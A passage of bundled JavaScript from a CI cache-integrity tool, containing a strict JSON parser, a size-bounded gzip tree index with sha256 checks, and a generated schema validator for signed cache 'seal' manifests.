            },
            onComment: (_o, _l, line, col) => fail(`${at(line, col, '$')}: comments are not JSON`),
            onError: (code, _o, _l, line, col) => {
                fail(`${line + 1}:${col + 1}: ${describe(code)}`);
            }
        }, { disallowComments: true, allowTrailingComma: false, allowEmptyContent: false });
    }
    catch (err) {
        if (!(err instanceof RangeError))
            throw err;
        throw new StrictJsonError([`nested too deeply to read (over ${limits.maxDepth} levels)`]);
    }
    if (!rootSeen && problems.length === 0)
        problems.push('1:1: empty document');
    if (problems.length > 0)
        throw new StrictJsonError(problems);
    return { value: root, lines };
}
/**
 * Where nesting first exceeds `max` levels, if it does. Counted on jsonc-parser's own tokens, so
 * strings and comments (`/*"*\/`) are skipped exactly as the parser skips them. Once a closing
 * bracket does not match, the parser's error recovery may skip brackets this count would pair up,
 * so from there on every opening bracket counts and none closes: an over-count refuses a document
 * that is refused anyway, an under-count would let it overflow the stack.
 */
// jsonc-parser's SyntaxKind is a const enum, which this build cannot read at run time.
const TOKEN = { openBrace: 1, closeBrace: 2, openBracket: 3, closeBracket: 4, eof: 17 };
function depthProblem(text, max) {
    const scanner = (0,main.createScanner)(text, false);
    const open = [];
    let broken = false;
    let depth = 0;
    for (let t = scanner.scan(); t !== TOKEN.eof; t = scanner.scan()) {
        if (t === TOKEN.openBrace || t === TOKEN.openBracket) {
            open.push(t);
            if (++depth > max)
                return `${scanner.getTokenStartLine() + 1}:${scanner.getTokenStartCharacter() + 1}: nested deeper than ${max} levels`;
        }
        else if (!broken && (t === TOKEN.closeBrace || t === TOKEN.closeBracket)) {
            const want = t === TOKEN.closeBrace ? TOKEN.openBrace : TOKEN.openBracket;
            if (open.pop() === want)
                depth--;
            else
                broken = true;
        }
    }
    return undefined;
}
function describe(code) {
    const name = (0,main.printParseErrorCode)(code);
    const words = {
        InvalidSymbol: 'unexpected character (trailing data, or not JSON)',
        EndOfFileExpected: 'trailing data after the document',
        InvalidUnicode: 'invalid \\u escape',
        InvalidEscapeCharacter: 'invalid escape in string',
        UnexpectedEndOfString: 'unterminated string',
        UnexpectedEndOfNumber: 'malformed number',
        UnexpectedEndOfComment: 'comments are not JSON',
        InvalidCommentToken: 'comments are not JSON',
        InvalidNumberFormat: 'malformed number',
        InvalidCharacter: 'control character in string',
        PropertyNameExpected: 'property name expected (trailing comma?)',
        CommaExpected: 'comma expected',
        ColonExpected: 'colon expected',
        ValueExpected: 'value expected',
        CloseBraceExpected: 'closing brace expected',
        CloseBracketExpected: 'closing bracket expected'
    };
    return words[name] ?? name;
}

// EXTERNAL MODULE: external "node:zlib"
var external_node_zlib_ = __webpack_require__(38522);
var external_node_zlib_default = /*#__PURE__*/__webpack_require__.n(external_node_zlib_);
;// CONCATENATED MODULE: ./src/core/walk/mode.ts
/** Permission modes as manifests spell them ("0755") and the exec-bit rule behind STRIPPED. */
/** "0755" from permission bits. */
function mode_octal(mode) {
    return (mode & 0o7777).toString(8).padStart(4, '0');
}
function parseMode(text) {
    return parseInt(text, 8) & 0o7777;
}
/** True when `found` lacks an exec bit that `wanted` has: what lossy restores do. */
function lostExec(wanted, found) {
    return (wanted & 0o111 & ~found) !== 0;
}

;// CONCATENATED MODULE: ./src/core/walk/tree-index.ts
/**
 * The per-file index of a tree: a sidecar file beside the manifest (gzip'd JSON lines: relpath,
 * type, mode, size, sha256, link target or a special file's kind). The manifest holds the sidecar's sha256, so the index
 * is as trustworthy as the manifest; with it, a failed tree check names the files that are
 * missing, extra or changed instead of only saying "digest differs".
 */





const HEADER = JSON.stringify(['swr-tree-index', 1]);
const MAX_INDEX_BYTES = 256 * 1024 * 1024;
/**
 * Budget per recorded entry, inflated: a line holds a path, type, mode, size and a sha256 or link
 * target (about 130 bytes in a node_modules). The budget is an average, so a few very long names fit;
 * an index beyond it (or beyond MAX_INDEX_BYTES) is not parsed.
 */
const BYTES_PER_ENTRY = 1024;
/**
 * Most an index inflates per compressed byte: real ones inflate about 3 times (each file's
 * sha256 hardly compresses), and about 9 for a tree of directories only.
 */
const MAX_RATIO = 64;
const SLACK_BYTES = 64 * 1024;
/** Longest line parsed (two 4096-character paths, escaped, and the fields). */
const MAX_LINE_BYTES = 64 * 1024;
/**
 * The most an index of `entries` records may inflate to. The manifest's count is not trusted
 * either (check reads unsigned manifests), but it is what the walk is compared with, so a
 * larger claim costs no more than the tree it claims would.
 */
function indexBudget(entries) {
    return Math.min(MAX_INDEX_BYTES, SLACK_BYTES + Math.max(0, entries) * BYTES_PER_ENTRY);
}
const LIST_LIMIT = 20;
/** Where the index of tree `id` lives for the manifest at `manifestFile`. */
function tree_index_indexPath(manifestFile, id) {
    return external_node_path_default().join(external_node_path_default().dirname(manifestFile), 'trees', `${id}.index.gz`);
}
function encodeIndex(records) {
    const lines = [
        HEADER,
        ...records.map(r => JSON.stringify([r.rel, r.type, r.mode, r.size, r.extra ?? null]))
    ];
    return (0,external_node_zlib_.gzipSync)(lines.join('\n') + '\n', { level: 6 });
}
function indexRef(bytes, entries) {
    return { sha256: (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex'), entries };
}
/** Read an index and check it against the manifest; undefined when absent, altered or unreadable. */
function readIndex(file, ref) {
    if (!ref)
        return undefined;
    try {
        // Bounded before anything is read: the compressed size, from the recorded entry count.
        const st = external_node_fs_default().lstatSync(file);
        if (!st.isFile() || st.size > indexBudget(ref.entries))
            return undefined;
        return parseIndex(external_node_fs_default().readFileSync(file), ref);
    }
    catch {
        return undefined;
    }
}
/**
 * An index's bytes (wherever they were kept: a sidecar, a seal) checked against `ref`;
 * undefined when altered or unreadable. Bounded before anything is inflated or parsed: compressed
 * size, inflated size (the inflate stops at the budget) and line count, all from the entry count.
 */
function parseIndex(bytes, ref) {
    try {
        const budget = indexBudget(ref.entries);
        if (bytes.length > budget)
            return undefined;
        if ((0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex') !== ref.sha256)
            return undefined;
        const inflated = Math.min(budget, SLACK_BYTES + bytes.length * MAX_RATIO);
        const text = (0,external_node_zlib_.gunzipSync)(bytes, { maxOutputLength: inflated }).toString('utf8');
        const lines = text.split('\n', ref.entries + 3).filter(Boolean);
        if (lines[0] !== HEADER || lines.length !== ref.entries + 1)
            return undefined;
        if (lines.some(l => l.length > MAX_LINE_BYTES))
            return undefined;
        return lines.slice(1).map(line => {
            const [rel, type, mode, size, extra] = JSON.parse(line);
            return { rel, type, mode, size, extra: extra ?? undefined };
        });
    }
    catch {
        return undefined;
    }
}
/** Name what differs between the recorded index and what the walk found now. */
function diffIndex(recorded, now, nowExtra) {
    const before = new Map(recorded.map(r => [r.rel, r]));
    const missing = [];
    const extra = [];
    const changed = [];
    const seen = new Set();
    let execLossOnly = true;
    let contentChanged = false;
    let shrunk = 0;
    now.forEach((r, i) => {
        seen.add(r.rel);
        const b = before.get(r.rel);
        if (!b)
            return void extra.push(r.rel);
        const what = [];
        if (b.type !== r.type)
            what.push(`type ${b.type} -> ${r.type}`);
        else {
            if (r.type === 'f' && b.size !== r.size)
                what.push(`size ${b.size} -> ${r.size}`);
            if (r.type !== 'l' && b.mode !== r.mode) {
                what.push(`mode ${mode_octal(b.mode)} -> ${mode_octal(r.mode)}`);
                if (!lostExec(b.mode, r.mode))
                    execLossOnly = false;
            }
            const x = nowExtra?.[i];
            if (x !== undefined &&
                b.extra !== undefined &&
                x !== b.extra &&
                !(r.type === 'f' && b.size !== r.size)) {
                what.push(r.type === 'l'
                    ? `target ${b.extra} -> ${x}`
                    : r.type === 'o'
                        ? `${b.extra} -> ${x}`
                        : 'content');
                contentChanged = true;
            }
        }
        if (what.length > 1 || (what.length === 1 && !what[0]?.startsWith('mode ')))
            execLossOnly = false;
        if (what.length > 0)
            changed.push({ path: r.rel, what: what.join(', ') });
        // Counted here because the list below is cut: "every change is a cut" needs the whole count.
        if (what.length === 1 && r.type === 'f' && b.type === 'f' && r.size < b.size)
            shrunk++;
    });
    for (const r of recorded)
        if (!seen.has(r.rel))
            missing.push(r.rel);
    const diff = {
        missing: missing.slice(0, LIST_LIMIT),
        extra: extra.slice(0, LIST_LIMIT),
        changed: changed.slice(0, LIST_LIMIT),
        counts: { missing: missing.length, extra: extra.length, changed: changed.length, shrunk }
    };
    return {
        diff,
        execLossOnly: execLossOnly && missing.length === 0 && extra.length === 0 && changed.length > 0,
        contentChanged
    };
}

// EXTERNAL MODULE: ./node_modules/ajv/dist/runtime/ucs2length.js
var ucs2length = __webpack_require__(36214);
// EXTERNAL MODULE: ./node_modules/ajv/dist/runtime/equal.js
var equal = __webpack_require__(24951);
;// CONCATENATED MODULE: ./src/core/seal/generated/seal-validator.js
// Generated by scripts/gen-validators.mjs from schema/seal-v1.schema.json. Do not edit.
/* eslint-disable */
// @ts-nocheck

const func1 = ucs2length["default"] ?? ucs2length
;
const func0 = equal["default"] ?? equal
const validate = validate20;/* harmony default export */ const seal_validator = ((/* unused pure expression or super */ null && (validate20)));const schema31 = {"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"urn:snapshot-wipe-resilience:schema:seal-v1.schema.json","title":"swr seal, format 1","description":"The expected state of the paths a cache holds, recorded where they were built and carried as the first member of the cache archive (or kept in the state directory for a sealed manifest entry). `body` is what signatures cover; `signatures` sit beside it. A seal holds expectations only: never a recipe, smoke command or environment.","type":"object","additionalProperties":false,"required":["body","signatures"],"properties":{"body":{"type":"object","additionalProperties":false,"required":["schema","key","paths","made"],"properties":{"schema":{"const":"swr.seal/1"},"key":{"description":"The cache key (or the expanded key template) the seal was made for. A seal found under another key is refused.","type":"string","minLength":1,"maxLength":512},"paths":{"type":"array","minItems":1,"maxItems":64,"items":{"$ref":"#/$defs/sealedPath"}},"made":{"type":"object","additionalProperties":false,"required":["at","os","arch"],"properties":{"at":{"type":"string","maxLength":64},"os":{"type":"string","pattern":"^[a-z0-9_-]{1,32}$"},"arch":{"type":"string","pattern":"^[a-z0-9_-]{1,32}$"},"run":{"description":"Where it was made, for people: repository, run id and job (never trusted).","type":"string","maxLength":512}}}}},"signatures":{"description":"Signatures over the body's DSSE pre-authentication encoding (payload type application/vnd.swr.seal.v1+json, RFC 8785 body).","type":"array","maxItems":16,"items":{"type":"object","required":["alg"],"discriminator":{"propertyName":"alg"},"oneOf":[{"$ref":"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/hmacSignature"},{"$ref":"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature"}],"properties":{"alg":{"enum":["hmac-sha256","ml-dsa-87"]}}}}},"$defs":{"sealedPath":{"type":"object","additionalProperties":false,"required":["spelling","member","entry"],"properties":{"spelling":{"description":"The path as the cache step names it (one line of its path input).","type":"string","minLength":1,"maxLength":4096},"member":{"description":"The path as the archive names it: relative to the saving job's workspace, POSIX.","type":"string","minLength":1,"maxLength":4096},"entry":{"description":"The expected state, as a manifest entry of the path's last name. No recipe, smoke command or environment.","allOf":[{"$ref":"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/entry"},{"properties":{"restore":false,"smoke":false,"smoke_timeout_s":false,"timeout_s":false,"env":false,"secret_env":false,"escrow":false}}]},"index":{"description":"A tree's per-file index (gzip, base64); its sha256 is the entry's expect.index.sha256.","type":"string","maxLength":178956970,"pattern":"^[A-Za-z0-9+/]*={0,2}$"}}}}};const schema76 = {"type":"object","additionalProperties":false,"required":["alg","keyid","sig"],"properties":{"alg":{"const":"hmac-sha256"},"keyid":{"type":"string","pattern":"^[0-9a-f]{16}$"},"sig":{"type":"string","pattern":"^[0-9a-f]{64}$"}}};const schema77 = {"type":"object","additionalProperties":false,"required":["alg","keyid","public_key","sig"],"properties":{"alg":{"const":"ml-dsa-87"},"keyid":{"description":"Fingerprint hint for people; never trusted (the fingerprint is recomputed from public_key).","type":"string","pattern":"^[0-9a-f]{64}$"},"public_key":{"type":"string","minLength":3456,"maxLength":3460,"pattern":"^[A-Za-z0-9+/]+={0,2}$"},"sig":{"type":"string","minLength":6168,"maxLength":6172,"pattern":"^[A-Za-z0-9+/]+={0,2}$"}}};const schema32 = {"type":"object","additionalProperties":false,"required":["spelling","member","entry"],"properties":{"spelling":{"description":"The path as the cache step names it (one line of its path input).","type":"string","minLength":1,"maxLength":4096},"member":{"description":"The path as the archive names it: relative to the saving job's workspace, POSIX.","type":"string","minLength":1,"maxLength":4096},"entry":{"description":"The expected state, as a manifest entry of the path's last name. No recipe, smoke command or environment.","allOf":[{"$ref":"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/entry"},{"properties":{"restore":false,"smoke":false,"smoke_timeout_s":false,"timeout_s":false,"env":false,"secret_env":false,"escrow":false}}]},"index":{"description":"A tree's per-file index (gzip, base64); its sha256 is the entry's expect.index.sha256.","type":"string","maxLength":178956970,"pattern":"^[A-Za-z0-9+/]*={0,2}$"}}};const schema35 = {"type":"object","required":["kind"],"properties":{"kind":{"enum":["file","blob","tree","link"]}},"allOf":[{"if":{"properties":{"kind":{"const":"file"}}},"then":{"$ref":"#/$defs/fileEntry"}},{"if":{"properties":{"kind":{"const":"blob"}}},"then":{"$ref":"#/$defs/blobEntry"}},{"if":{"properties":{"kind":{"const":"tree"}}},"then":{"$ref":"#/$defs/treeEntry"}},{"if":{"properties":{"kind":{"const":"link"}}},"then":{"$ref":"#/$defs/linkEntry"}}]};const schema36 = {"$ref":"#/$defs/common","unevaluatedProperties":false,"properties":{"kind":{"const":"file"},"expect":{"type":"object","additionalProperties":false,"required":["size","sha256","mode"],"properties":{"size":{"$ref":"#/$defs/size"},"sha256":{"$ref":"#/$defs/sha256"},"mode":{"$ref":"#/$defs/mode"}}},"escrow":{"description":"The file's bytes, deflated and base64-encoded, checked against expect.sha256 when captured and restored.","type":"object","additionalProperties":false,"required":["encoding","data"],"properties":{"encoding":{"const":"deflate-base64"},"data":{"type":"string","maxLength":1048576,"pattern":"^[A-Za-z0-9+/]*={0,2}$"}}}}};const schema42 = {"type":"integer","minimum":0,"maximum":9007199254740991};const schema43 = {"type":"string","pattern":"^[0-9a-f]{64}$"};const schema44 = {"description":"Permission bits in octal, four digits, e.g. \"0755\".","type":"string","pattern":"^[0-7]{4}$"};const schema37 = {"type":"object","required":["id","kind","path","tier","needs","expect"],"properties":{"id":{"$ref":"#/$defs/id"},"kind":{"enum":["file","blob","tree","link"]},"path":{"$ref":"#/$defs/relpath"},"tier":{"description":"Restore order: 0 credentials/shims, 1 scripts, 2 source trees, 3 large downloads, 4 build outputs.","type":"integer","minimum":0,"maximum":4},"needs":{"type":"array","maxItems":256,"uniqueItems":true,"items":{"$ref":"#/$defs/id"}},"restore":{"description":"How to recreate the entry: a shell recipe, or restore sources tried in order (recipes, and Actions caches) until the entry verifies.","oneOf":[{"type":"string","minLength":1,"maxLength":65536},{"type":"array","minItems":1,"maxItems":8,"items":{"oneOf":[{"type":"string","minLength":1,"maxLength":65536},{"$ref":"#/$defs/cacheSource"}]}}]},"timeout_s":{"type":"integer","minimum":1,"maximum":86400},"env":{"description":"Names of variables passed from the caller's environment to the recipe (besides PATH, HOME, LANG, TMPDIR).","type":"array","maxItems":64,"uniqueItems":true,"items":{"type":"string","pattern":"^[A-Za-z_][A-Za-z0-9_]{0,127}$"}},"secret_env":{"description":"Like env, and their values are scrubbed from recipe output and reports.","type":"array","maxItems":64,"uniqueItems":true,"items":{"type":"string","pattern":"^[A-Za-z_][A-Za-z0-9_]{0,127}$"}},"smoke":{"type":"string","minLength":1,"maxLength":65536},"smoke_timeout_s":{"description":"Seconds the smoke command may run (default 60).","type":"integer","minimum":1,"maximum":86400},"note":{"type":"string","maxLength":4096},"expect":{"type":"object"}}};const schema38 = {"type":"string","pattern":"^[A-Za-z0-9._-]{1,128}$"};const schema39 = {"type":"string","minLength":1,"maxLength":4096};const schema41 = {"type":"object","additionalProperties":false,"required":["cache"],"properties":{"cache":{"type":"object","additionalProperties":false,"required":["key"],"properties":{"key":{"type":"string","minLength":1,"maxLength":512},"restore-keys":{"type":"array","maxItems":16,"items":{"type":"string","minLength":1,"maxLength":512}}}}}};const pattern7 = new RegExp("^[A-Za-z0-9._-]{1,128}$", "u");const pattern9 = new RegExp("^[A-Za-z_][A-Za-z0-9_]{0,127}$", "u");function validate26(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate26.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.id === undefined){const err0 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "id"},message:"must have required property '"+"id"+"'"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}if(data.kind === undefined){const err1 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "kind"},message:"must have required property '"+"kind"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}if(data.path === undefined){const err2 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "path"},message:"must have required property '"+"path"+"'"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}if(data.tier === undefined){const err3 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "tier"},message:"must have required property '"+"tier"+"'"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(data.needs === undefined){const err4 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "needs"},message:"must have required property '"+"needs"+"'"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}if(data.expect === undefined){const err5 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "expect"},message:"must have required property '"+"expect"+"'"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}if(data.id !== undefined){let data0 = data.id;if(typeof data0 === "string"){if(!pattern7.test(data0)){const err6 = {instancePath:instancePath+"/id",schemaPath:"#/$defs/id/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9._-]{1,128}$"},message:"must match pattern \""+"^[A-Za-z0-9._-]{1,128}$"+"\""};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}else {const err7 = {instancePath:instancePath+"/id",schemaPath:"#/$defs/id/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}if(data.kind !== undefined){let data1 = data.kind;if(!((((data1 === "file") || (data1 === "blob")) || (data1 === "tree")) || (data1 === "link"))){const err8 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/enum",keyword:"enum",params:{allowedValues: schema37.properties.kind.enum},message:"must be equal to one of the allowed values"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}}if(data.path !== undefined){let data2 = data.path;if(typeof data2 === "string"){if(func1(data2) > 4096){const err9 = {instancePath:instancePath+"/path",schemaPath:"#/$defs/relpath/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}if(func1(data2) < 1){const err10 = {instancePath:instancePath+"/path",schemaPath:"#/$defs/relpath/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}}else {const err11 = {instancePath:instancePath+"/path",schemaPath:"#/$defs/relpath/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}}if(data.tier !== undefined){let data3 = data.tier;if(!(((typeof data3 == "number") && (!(data3 % 1) && !isNaN(data3))) && (isFinite(data3)))){const err12 = {instancePath:instancePath+"/tier",schemaPath:"#/properties/tier/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}if((typeof data3 == "number") && (isFinite(data3))){if(data3 > 4 || isNaN(data3)){const err13 = {instancePath:instancePath+"/tier",schemaPath:"#/properties/tier/maximum",keyword:"maximum",params:{comparison: "<=", limit: 4},message:"must be <= 4"};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}if(data3 < 0 || isNaN(data3)){const err14 = {instancePath:instancePath+"/tier",schemaPath:"#/properties/tier/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}}}if(data.needs !== undefined){let data4 = data.needs;if(Array.isArray(data4)){if(data4.length > 256){const err15 = {instancePath:instancePath+"/needs",schemaPath:"#/properties/needs/maxItems",keyword:"maxItems",params:{limit: 256},message:"must NOT have more than 256 items"};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;}const len0 = data4.length;for(let i0=0; i0<len0; i0++){let data5 = data4[i0];if(typeof data5 === "string"){if(!pattern7.test(data5)){const err16 = {instancePath:instancePath+"/needs/" + i0,schemaPath:"#/$defs/id/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9._-]{1,128}$"},message:"must match pattern \""+"^[A-Za-z0-9._-]{1,128}$"+"\""};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}}else {const err17 = {instancePath:instancePath+"/needs/" + i0,schemaPath:"#/$defs/id/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}}let i1 = data4.length;let j0;if(i1 > 1){outer0:for(;i1--;){for(j0 = i1; j0--;){if(func0(data4[i1], data4[j0])){const err18 = {instancePath:instancePath+"/needs",schemaPath:"#/properties/needs/uniqueItems",keyword:"uniqueItems",params:{i: i1, j: j0},message:"must NOT have duplicate items (items ## "+j0+" and "+i1+" are identical)"};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;break outer0;}}}}}else {const err19 = {instancePath:instancePath+"/needs",schemaPath:"#/properties/needs/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}}if(data.restore !== undefined){let data6 = data.restore;const _errs16 = errors;let valid7 = false;let passing0 = null;const _errs17 = errors;if(typeof data6 === "string"){if(func1(data6) > 65536){const err20 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/0/maxLength",keyword:"maxLength",params:{limit: 65536},message:"must NOT have more than 65536 characters"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}if(func1(data6) < 1){const err21 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/0/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err21];}else {vErrors.push(err21);}errors++;}}else {const err22 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/0/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err22];}else {vErrors.push(err22);}errors++;}var _valid0 = _errs17 === errors;if(_valid0){valid7 = true;passing0 = 0;}const _errs19 = errors;if(Array.isArray(data6)){if(data6.length > 8){const err23 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/1/maxItems",keyword:"maxItems",params:{limit: 8},message:"must NOT have more than 8 items"};if(vErrors === null){vErrors = [err23];}else {vErrors.push(err23);}errors++;}if(data6.length < 1){const err24 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/1/minItems",keyword:"minItems",params:{limit: 1},message:"must NOT have fewer than 1 items"};if(vErrors === null){vErrors = [err24];}else {vErrors.push(err24);}errors++;}const len1 = data6.length;for(let i2=0; i2<len1; i2++){let data7 = data6[i2];const _errs22 = errors;let valid10 = false;let passing1 = null;const _errs23 = errors;if(typeof data7 === "string"){if(func1(data7) > 65536){const err25 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/properties/restore/oneOf/1/items/oneOf/0/maxLength",keyword:"maxLength",params:{limit: 65536},message:"must NOT have more than 65536 characters"};if(vErrors === null){vErrors = [err25];}else {vErrors.push(err25);}errors++;}if(func1(data7) < 1){const err26 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/properties/restore/oneOf/1/items/oneOf/0/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err26];}else {vErrors.push(err26);}errors++;}}else {const err27 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/properties/restore/oneOf/1/items/oneOf/0/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err27];}else {vErrors.push(err27);}errors++;}var _valid1 = _errs23 === errors;if(_valid1){valid10 = true;passing1 = 0;}const _errs25 = errors;if(data7 && typeof data7 == "object" && !Array.isArray(data7)){if(data7.cache === undefined){const err28 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/$defs/cacheSource/required",keyword:"required",params:{missingProperty: "cache"},message:"must have required property '"+"cache"+"'"};if(vErrors === null){vErrors = [err28];}else {vErrors.push(err28);}errors++;}for(const key0 in data7){if(!(key0 === "cache")){const err29 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/$defs/cacheSource/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err29];}else {vErrors.push(err29);}errors++;}}if(data7.cache !== undefined){let data8 = data7.cache;if(data8 && typeof data8 == "object" && !Array.isArray(data8)){if(data8.key === undefined){const err30 = {instancePath:instancePath+"/restore/" + i2+"/cache",schemaPath:"#/$defs/cacheSource/properties/cache/required",keyword:"required",params:{missingProperty: "key"},message:"must have required property '"+"key"+"'"};if(vErrors === null){vErrors = [err30];}else {vErrors.push(err30);}errors++;}for(const key1 in data8){if(!((key1 === "key") || (key1 === "restore-keys"))){const err31 = {instancePath:instancePath+"/restore/" + i2+"/cache",schemaPath:"#/$defs/cacheSource/properties/cache/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key1},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err31];}else {vErrors.push(err31);}errors++;}}if(data8.key !== undefined){let data9 = data8.key;if(typeof data9 === "string"){if(func1(data9) > 512){const err32 = {instancePath:instancePath+"/restore/" + i2+"/cache/key",schemaPath:"#/$defs/cacheSource/properties/cache/properties/key/maxLength",keyword:"maxLength",params:{limit: 512},message:"must NOT have more than 512 characters"};if(vErrors === null){vErrors = [err32];}else {vErrors.push(err32);}errors++;}if(func1(data9) < 1){const err33 = {instancePath:instancePath+"/restore/" + i2+"/cache/key",schemaPath:"#/$defs/cacheSource/properties/cache/properties/key/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err33];}else {vErrors.push(err33);}errors++;}}else {const err34 = {instancePath:instancePath+"/restore/" + i2+"/cache/key",schemaPath:"#/$defs/cacheSource/properties/cache/properties/key/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err34];}else {vErrors.push(err34);}errors++;}}if(data8["restore-keys"] !== undefined){let data10 = data8["restore-keys"];if(Array.isArray(data10)){if(data10.length > 16){const err35 = {instancePath:instancePath+"/restore/" + i2+"/cache/restore-keys",schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/maxItems",keyword:"maxItems",params:{limit: 16},message:"must NOT have more than 16 items"};if(vErrors === null){vErrors = [err35];}else {vErrors.push(err35);}errors++;}const len2 = data10.length;for(let i3=0; i3<len2; i3++){let data11 = data10[i3];if(typeof data11 === "string"){if(func1(data11) > 512){const err36 = {instancePath:instancePath+"/restore/" + i2+"/cache/restore-keys/" + i3,schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/items/maxLength",keyword:"maxLength",params:{limit: 512},message:"must NOT have more than 512 characters"};if(vErrors === null){vErrors = [err36];}else {vErrors.push(err36);}errors++;}if(func1(data11) < 1){const err37 = {instancePath:instancePath+"/restore/" + i2+"/cache/restore-keys/" + i3,schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/items/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err37];}else {vErrors.push(err37);}errors++;}}else {const err38 = {instancePath:instancePath+"/restore/" + i2+"/cache/restore-keys/" + i3,schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err38];}else {vErrors.push(err38);}errors++;}}}else {const err39 = {instancePath:instancePath+"/restore/" + i2+"/cache/restore-keys",schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err39];}else {vErrors.push(err39);}errors++;}}}else {const err40 = {instancePath:instancePath+"/restore/" + i2+"/cache",schemaPath:"#/$defs/cacheSource/properties/cache/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err40];}else {vErrors.push(err40);}errors++;}}}else {const err41 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/$defs/cacheSource/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err41];}else {vErrors.push(err41);}errors++;}var _valid1 = _errs25 === errors;if(_valid1 && valid10){valid10 = false;passing1 = [passing1, 1];}else {if(_valid1){valid10 = true;passing1 = 1;}}if(!valid10){const err42 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/properties/restore/oneOf/1/items/oneOf",keyword:"oneOf",params:{passingSchemas: passing1},message:"must match exactly one schema in oneOf"};if(vErrors === null){vErrors = [err42];}else {vErrors.push(err42);}errors++;}else {errors = _errs22;if(vErrors !== null){if(_errs22){vErrors.length = _errs22;}else {vErrors = 